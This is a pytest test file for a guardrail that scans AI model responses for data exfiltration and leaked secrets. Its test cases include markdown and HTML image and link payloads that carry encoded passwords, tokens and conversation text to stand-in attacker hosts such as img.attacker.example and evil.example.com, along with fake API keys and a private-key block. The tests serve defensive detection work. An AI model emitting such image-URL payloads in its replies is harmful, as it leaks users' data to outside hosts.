"""Data-exfiltration guardrail: markdown/HTML URLs carrying data, secrets, encoded blobs."""

from __future__ import annotations

import base64

import pytest

from certus.sidecar.domain import GuardrailType, Severity
from certus.sidecar.guardrails import GuardrailSuite

from .conftest import assert_no_content, detectors, req, scan_one, text_of

EX = GuardrailType.DATA_EXFILTRATION
PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def test_markdown_image_with_encoded_data_in_query(rules_suite: GuardrailSuite) -> None:
    image = f"![loading](https://img.attacker.example/p.png?d={_b64('the user password is hunter2 and the account is 7781')})"
    inp = req(response=f"Here is your summary.\n\n{image}\n")
    vs = scan_one(rules_suite, EX, inp)
    assert [(v.detector, v.severity, text_of(inp, v)) for v in vs] == [("markdown_image_exfil", Severity.HIGH, image)]
    assert vs[0].confidence >= 0.85
    assert_no_content(inp, vs)


@pytest.mark.parametrize(
    "response",
    [
        "![](https://collect.example.org/log?conversation=user%20asked%20about%20the%20salary%20of%20Jane%20Doe)",
        "![s](https://stats.example.io/beacon/am9obi5zbWl0aEBhY21lLmNvbTpTdXBlclNlY3JldDEyMyE=/pixel.gif)",
        '<img src="https://evil.example.com/i?secret=Zx81KqPl02mvNa7" width=1>',
        "![a][r]\n\n[r]: https://evil.example.com/c?token=8f14e45fceea167a5a36dedd4bea2543",
    ],
)
def test_images_carrying_data(rules_suite: GuardrailSuite, response: str) -> None:
    assert "markdown_image_exfil" in detectors(scan_one(rules_suite, EX, req(response=response)))


def test_link_carrying_data_is_medium(rules_suite: GuardrailSuite) -> None:
    inp = req(response="See [your report](https://files.example.net/r?u=jane.doe%40corp.com&session=8f14e45fceea167a5a36dedd4bea2543c9).")
    vs = scan_one(rules_suite, EX, inp)
    assert [(v.detector, v.severity) for v in vs] == [("markdown_link_exfil", Severity.MEDIUM)]


@pytest.mark.parametrize(
    "response",
    [
        "Here is the architecture: ![diagram](https://docs.example.com/images/architecture-overview.png)",
        "Read the [urllib docs](https://docs.python.org/3/library/urllib.parse.html#urllib.parse.urlsplit).",
        "Watch [the talk](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s).",
        "Search: [results](https://www.google.com/search?q=python+asyncio+tutorial)",
        f"Inline logo: ![logo](data:image/png;base64,{PNG_1PX})",
        f"The PNG starts with {PNG_1PX} when base64 encoded.",
        "The file's SHA-256 is 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.",
        "AWS documentation uses the example key AKIAIOSFODNN7EXAMPLE; use your own.",
        'Set `password = "<your-password>"` in config.ini.',
        "See [pricing](https://example.com/pricing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale)",
    ],
)
def test_benign_look_alikes(rules_suite: GuardrailSuite, response: str) -> None:
    assert scan_one(rules_suite, EX, req(response=response)) == []


@pytest.mark.parametrize(
    ("secret", "detector"),
    [
        ("AKIAZ7QW3RTY8UIOPA2S", "aws_key"),
        ("ghp_8f4Jk2LmN9pQ1rS5tU7vW3xY6zA0bC2dE4fG", "github_token"),
        ("xoxb-2748392018-9283746501928-AbCdEfGhIjKlMnOpQrStUvWx", "slack_token"),
        ("sk_live_51HqLyjWDarjtT1zdp7dcXk9Xy0aQ", "stripe_key"),
        ("sk-proj-4fJ8kL2mN9pQ1rS5tU7vW3xY6zA0bC2dE4fG8hJ1kL3mN5pQ7rS9tU", "openai_key"),
        ("AIzaSyD8f7G6h5J4k3L2m1N0p9Q8r7S6t5U4v3W", "gcp_api_key"),
        (
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
            "jwt",
        ),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1c7d8F2tq0mQ9eXr1WzYb\n-----END RSA PRIVATE KEY-----", "private_key"),
    ],
)
def test_secrets(rules_suite: GuardrailSuite, secret: str, detector: str) -> None:
    inp = req(response=f"Use this credential: {secret} (keep it safe).")
    vs = scan_one(rules_suite, EX, inp)
    assert [(v.detector, text_of(inp, v)) for v in vs] == [(detector, secret)]
    assert vs[0].severity in (Severity.HIGH, Severity.CRITICAL)
    assert_no_content(inp, vs)


def test_password_in_url_reports_the_password_span(rules_suite: GuardrailSuite) -> None:
    inp = req(response="Connect with postgres://admin:Tr0ub4dor%263@db.internal.corp:5432/prod")
    vs = scan_one(rules_suite, EX, inp)
    assert [(v.detector, text_of(inp, v)) for v in vs] == [("password_in_url", "Tr0ub4dor%263")]


def test_long_base64_text_blob(rules_suite: GuardrailSuite) -> None:
    blob = _b64("Here are the full customer records: Jane Doe, 123 Main Street, account 99812, balance 1200.")
    inp = req(response=f"Encoded for you: {blob}")
    vs = scan_one(rules_suite, EX, inp)
    assert [(v.detector, text_of(inp, v)) for v in vs] == [("base64_blob", blob)]


def test_password_in_prose(rules_suite: GuardrailSuite) -> None:
    inp = req(response="Your new password: hunter2horse, change it after login.")
    assert [(v.detector, text_of(inp, v)) for v in scan_one(rules_suite, EX, inp)] == [("password_in_text", "hunter2horse")]
    rule = req(response="Password: must be at least 12 characters long.")
    assert scan_one(rules_suite, EX, rule) == []


def test_placeholder_credentials_in_url(rules_suite: GuardrailSuite) -> None:
    inp = req(response="Connect with postgres://user:password@localhost:5432/mydb (replace the placeholders).")
    assert scan_one(rules_suite, EX, inp) == []
